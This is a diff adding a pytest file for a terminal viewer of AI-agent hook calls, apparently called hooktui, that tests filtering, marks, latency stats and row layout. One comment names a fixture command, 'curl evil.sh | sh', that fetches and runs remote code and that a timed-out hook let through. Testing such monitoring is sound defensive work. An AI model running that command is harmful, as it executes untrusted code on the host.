@@ -1,0 +1,179 @@
+"""The watch model without an app: entries, filtering, marks, stats, resets; and the row layout."""
+
+from __future__ import annotations
+
+import math
+from datetime import UTC
+
+from hooktui.tap.filter import compile_filter
+from hooktui.tap.model import HookInfo, decode_head, encode_record
+from hooktui.tap.reader import decode_head as reader_decode_head
+from hooktui.tui.format import (
+    format_latency,
+    latency_style,
+    near_timeout,
+    one_line,
+    parse_ts,
+    sparkline,
+)
+from hooktui.tui.view import CallView, make_entries
+from hooktui.tui.widgets.rows import call_row, columns_for, header_row
+
+from tests.tui.conftest import make_record, varied_records
+
+
+def _entries(records, source=0):
+    items, offset = [], 0
+    for r in records:
+        line = encode_record(r)
+        items.append((offset, decode_head(line)))
+        offset += len(line)
+    return make_entries(source, items)
+
+
+def _view(records=None) -> CallView:
+    view = CallView(["s.jsonl"])
+    view.replace_all(_entries(records if records is not None else varied_records()))
+    return view
+
+
+def test_stats_count_decisions_failures_and_fail_open() -> None:
+    view = _view()
+    stats = view.stats
+    assert stats.decisions["allow"] == 2
+    assert stats.decisions["deny"] == 1
+    assert stats.failures == 2
+    assert stats.fail_open == 1  # the timeout that let `curl evil.sh | sh` through
+    assert stats.calls == 8
+
+
+def test_percentiles_are_nearest_rank() -> None:
+    view = _view([make_record(i, duration_ms=float(i + 1)) for i in range(100)])
+    assert view.stats.percentile(50) == 50.0
+    assert view.stats.percentile(95) == 95.0
+    assert CallView(["x"]).stats.percentile(50) is None
+
+
+def test_calls_per_minute_end_at_the_newest_call() -> None:
+    # make_record spaces calls 7 s apart: 9 calls span 56 s from 01:59:00.
+    view = _view([make_record(i) for i in range(9)])
+    per_minute = view.stats.per_minute(3)
+    assert per_minute == [0, 0, 9]
+    view.add(_entries([make_record(9)]))  # 02:00:03: a new minute
+    assert view.stats.per_minute(3) == [0, 9, 1]
+
+
+def test_filter_and_stats_follow_it() -> None:
+    view = _view()
+    refreshed = []
+    view.on_refresh.append(lambda: refreshed.append(True))
+    view.set_predicate("decision:failure", compile_filter("decision:failure"))
+    assert [view.entry(i).head.id for i in range(len(view))] == ["call-00005", "call-00006"]
+    assert view.stats.calls == 2 and view.stats.fail_open == 1
+    assert view.total == 8
+    assert refreshed
+    view.set_predicate("", None)
+    assert len(view) == 8
+
+
+def test_new_entries_go_through_the_filter() -> None:
+    view = _view()
+    view.set_predicate("tool:Edit", compile_filter("tool:Edit"))
+    added = []
+    view.on_added.append(lambda first, count: added.append((first, count)))
+    assert view.add(_entries([make_record(20, tool_name="Edit"), make_record(21)])) == 1
+    assert added == [(1, 1)]
+    assert len(view) == 2 and view.total == 10
+
+
+def test_bad_lines_show_only_unfiltered() -> None:
+    view = _view()
+    bad = reader_decode_head(b"not json", 9999)
+    view.add(make_entries(0, [(9999, bad)], last_t=math.nan))
+    assert view.stats.bad == 1
+    assert view.entry(len(view) - 1).is_bad
+    view.set_predicate("tool:Bash", compile_filter("tool:Bash"))
+    assert all(not view.entry(i).is_bad for i in range(len(view)))
+
+
+def test_marks_survive_filtering_and_marked_only() -> None:
+    view = _view()
+    assert view.toggle_mark(1) is True
+    assert view.toggle_mark(3) is True
+    view.set_marked_only(True)
+    assert [view.entry(i).head.id for i in range(len(view))] == ["call-00001", "call-00003"]
+    view.set_marked_only(False)
+    assert view.is_marked(view.entry(1))
+    assert view.toggle_mark(1) is False
+    assert [e.head.id for e in view.marked_entries()] == ["call-00003"]
+
+
+def test_reset_source_drops_only_that_stream() -> None:
+    view = CallView(["a", "b"])
+    a = _entries([make_record(0), make_record(2)], source=0)
+    b = _entries([make_record(1), make_record(3)], source=1)
+    view.replace_all(sorted(a + b, key=lambda e: e.t))
+    view.toggle_mark(0)  # in stream a
+    view.toggle_mark(1)  # in stream b
+    view.reset_source(1, _entries([make_record(5)], source=1))
+    assert [view.entry(i).head.id for i in range(len(view))] == [
+        "call-00000",
+        "call-00002",
+        "call-00005",
+    ]
+    assert view.marks == {(0, a[0].offset)}
+
+
+def test_row_of_finds_a_shown_entry() -> None:
+    view = _view()
+    key = view.entry(4).key
+    view.set_predicate("replace", compile_filter("decision:replace"))
+    assert view.row_of(key) == 0
+    assert view.row_of((0, 123456)) is None
+
+
+def test_rows_are_exactly_the_width_and_carry_the_markers() -> None:
+    entries = _entries(varied_records())
+    for width in (60, 80, 120, 200):
+        assert len(header_row(width).plain) == width
+        for entry in entries:
+            row = call_row(entry, width, UTC, marked=False)
+            assert row.cell_len == width
+    fail_open = call_row(entries[5], 120, UTC, marked=True).plain
+    assert fail_open.startswith("●")
+    assert "⚠ failure" in fail_open
+    assert "◷5.00s" in fail_open  # timed out: at its timeout
+    slow = call_row(entries[7], 120, UTC, marked=False).plain
+    assert "◷850ms" in slow  # 85% of its 1 s timeout
+    fast = call_row(entries[0], 120, UTC, marked=False).plain
+    assert "◷" not in fast and "01:59:00" in fast
+
+
+def test_narrow_rows_drop_columns_not_the_decision() -> None:
+    cols = columns_for(80)
+    assert cols.runtime == 0 and cols.hook == 0 and cols.summary > 20
+    wide = columns_for(200)
+    assert wide.runtime and wide.hook and wide.millis
+
+
+def test_formatting_helpers() -> None:
+    assert format_latency(3.24) == "3.2ms"
+    assert format_latency(230) == "230ms"
+    assert format_latency(5003) == "5.00s"
+    assert format_latency(125_000) == "2m05s"
+    assert near_timeout(800, 1000) and not near_timeout(799, 1000)
+    assert not near_timeout(10_000, None)
+    assert latency_style(1) != latency_style(3000)
+    assert one_line("a\nb\tc\x1b") == "a⏎b c·"
+    assert sparkline([0, 1, 4]) == "▁▂█"  # quiet minutes are the baseline
+    assert math.isnan(parse_ts("yesterday"))
+    assert parse_ts("2026-03-14T01:59:00Z") == parse_ts("2026-03-14T01:59:00+00:00")
+
+
+def test_runtime_default_timeout_is_used_when_the_hook_has_none() -> None:
+    from hooktui.tap.adapters import get_adapter
+
+    default = get_adapter("claude-code").default_timeout_ms
+    record = make_record(0, duration_ms=(default or 0) * 0.9, hook=HookInfo(label="g"))
+    row = call_row(_entries([record])[0], 120, UTC, marked=False).plain
+    assert ("◷" in row) == bool(default)
